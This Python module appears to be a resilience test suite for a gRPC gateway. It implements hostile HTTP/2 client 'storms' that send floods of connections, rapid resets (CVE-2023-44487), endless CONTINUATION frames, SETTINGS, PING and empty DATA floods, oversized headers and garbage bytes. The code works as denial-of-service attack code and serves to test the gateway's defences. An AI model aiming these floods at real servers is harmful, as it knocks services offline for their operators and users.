"""What hostile clients do. A storm gets the gateway's address and a scale.

Scale 1 is the storm in full; the short form has a tenth of it. Each storm ends
by itself.
"""

import contextlib
import socket
import struct
import time
from collections.abc import Callable

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from gateway import Address
from header_tables import misencoded_headers, oversized_tables
from http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    connect,
    frame,
    request_fields,
    request_headers,
)

Storm = Callable[[Address, float], str]

_SERVICE = "/thespian.gateway.v1.GatewayService/"
_BURST = 100
_SMALL_BURST = 1_000


def connections(address: Address, scale: float) -> str:
    """More connections than the process may have descriptors."""
    held = [connect(address) for _ in range(int(2_000 * scale))]
    for one in held:
        one.close()
    return f"{len(held)} connections"


def resets(address: Address, scale: float) -> str:
    """Requests that are reset at once (CVE-2023-44487)."""
    headers = request_headers(_SERVICE + "Attach")
    count = 0
    for _ in range(4):
        connection = Connection(address)
        for burst in range(int(400 * scale)):
            content = b""
            for i in range(_BURST):
                stream = 2 * (burst * _BURST + i) + 1
                content += frame(HEADERS, END_HEADERS, stream, headers)
                content += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            if not connection.send(content):
                break
            count += _BURST
        connection.close()
    return f"{count} resets"


def unknown_methods(address: Address, scale: float) -> str:
    """Requests of a method that is not there."""
    headers = request_headers("/no.such/Method")
    connection = Connection(address)
    count = 0
    for burst in range(int(600 * scale)):
        content = b"".join(
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                2 * (burst * _BURST + i) + 1,
                headers,
            )
            for i in range(_BURST)
        )
        if not connection.send(content):
            break
        count += _BURST
    connection.close()
    return f"{count} requests"


def large_requests(address: Address, scale: float) -> str:
    """Requests of 4 MiB, none of which is ever sent to its end."""
    size = 4 << 20
    streams = int(200 * scale)
    protocol = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True)
    )
    connection = connect(address)
    protocol.initiate_connection()
    left = {}
    fields = request_fields(_SERVICE + "Send")
    for _ in range(streams):
        stream = protocol.get_next_available_stream_id()
        protocol.send_headers(stream, fields)
        protocol.send_data(stream, b"\0" + struct.pack(">I", size))
        left[stream] = size - 1
    refused = 0
    deadline = time.monotonic() + 20
    while left and time.monotonic() < deadline:
        sent = _send_what_fits(protocol, left)
        refused += _exchange(protocol, connection, left, wait=not sent)
    connection.close()
    return f"{streams} requests, {refused} of them refused"


def _send_what_fits(
    protocol: h2.connection.H2Connection, left: dict[int, int]
) -> bool:
    sent = False
    for stream in list(left):
        size = min(
            protocol.local_flow_control_window(stream),
            protocol.max_outbound_frame_size,
            left[stream],
        )
        if size > 0:
            protocol.send_data(stream, b"x" * size)
            left[stream] -= size
            sent = True
            if left[stream] == 0:
                del left[stream]
    return sent


def _exchange(
    protocol: h2.connection.H2Connection,
    connection: socket.socket,
    left: dict[int, int],
    *,
    wait: bool,
) -> int:
    """Writes, reads what has come, and returns how many were refused."""
    refused = 0
    connection.settimeout(30)
    connection.sendall(protocol.data_to_send())
    connection.settimeout(0.5 if wait else 0.001)
    with contextlib.suppress(TimeoutError, BlockingIOError):
        content = connection.recv(1 << 16)
        if not content:
            left.clear()
        for event in protocol.receive_data(content):
            if isinstance(event, h2.events.StreamReset):
                left.pop(event.stream_id, None)
                refused += 1
    return refused


def endless_headers(address: Address, scale: float) -> str:
    """HEADERS and CONTINUATION without end (CVE-2023-33953 and its like).

    What gRPC 1.51 keeps of them can't be bounded from outside; SECURITY.md
    says so. Hence the storm is small.
    """
    connection = Connection(address)
    connection.send(frame(HEADERS, 0, 1, request_headers(_SERVICE + "Send")))
    fields = b"\x00\x01a\x01b" * 3_000
    content = frame(CONTINUATION, 0, 1, fields)
    sent = _repeat(connection, content, int(200 * scale), len(fields))
    return f"{sent >> 10} KiB of headers"


def huge_metadata(address: Address, scale: float) -> str:
    """Requests with a header of 1 MB."""
    connection = Connection(address)
    count = 0
    for i in range(int(20 * scale) + 1):
        block = request_headers(_SERVICE + "Send", [("x-large", "x" * (1 << 20))])
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        stream = 2 * i + 1
        content = frame(HEADERS, END_STREAM, stream, pieces[0])
        for piece in pieces[1:-1]:
            content += frame(CONTINUATION, 0, stream, piece)
        content += frame(CONTINUATION, END_HEADERS, stream, pieces[-1])
        if not connection.send(content):
            break
        count += 1
    connection.close()
    return f"{count} requests"


def _repeat(
    connection: Connection, content: bytes, bursts: int, each: int = _SMALL_BURST
) -> int:
    """Sends it again and again and ends; how many were sent, `each` a burst."""
    count = 0
    for _ in range(bursts):
        if not connection.send(content):
            break
        count += each
    connection.close()
    return count


def pings(address: Address, scale: float) -> str:
    """PING as fast as it goes, answers not read."""
    content = frame(PING, 0, 0, b"12345678") * _SMALL_BURST
    connection = Connection(address, reads=False)
    return f"{_repeat(connection, content, int(200 * scale))} pings"


def settings(address: Address, scale: float) -> str:
    """SETTINGS as fast as it goes (CVE-2019-9515)."""
    setting = struct.pack(">HI", 4, 65_535)
    content = frame(SETTINGS, 0, 0, setting) * _SMALL_BURST
    count = _repeat(Connection(address), content, int(200 * scale))
    return f"{count} settings"


def empty_data(address: Address, scale: float) -> str:
    """DATA frames of no bytes (CVE-2019-9518)."""
    connection = Connection(address)
    headers = request_headers(_SERVICE + "Attach")
    connection.send(frame(HEADERS, END_HEADERS, 1, headers))
    content = frame(DATA, 0, 1) * _SMALL_BURST
    return f"{_repeat(connection, content, int(200 * scale))} frames"


def garbage(address: Address, scale: float) -> str:
    """Bytes that are no HTTP/2."""
    count = int(200 * scale)
    for i in range(count):
        with contextlib.suppress(OSError):
            one = connect(address)
            one.sendall(bytes((i * j) % 256 for j in range(1_000)))
            one.close()
    return f"{count} connections"


ALL: dict[str, Storm] = {
    storm.__name__: storm
    for storm in (
        connections,
        resets,
        unknown_methods,
        large_requests,
        endless_headers,
        huge_metadata,
        misencoded_headers,
        oversized_tables,
        pings,
        settings,
        empty_data,
        garbage,
    )
}
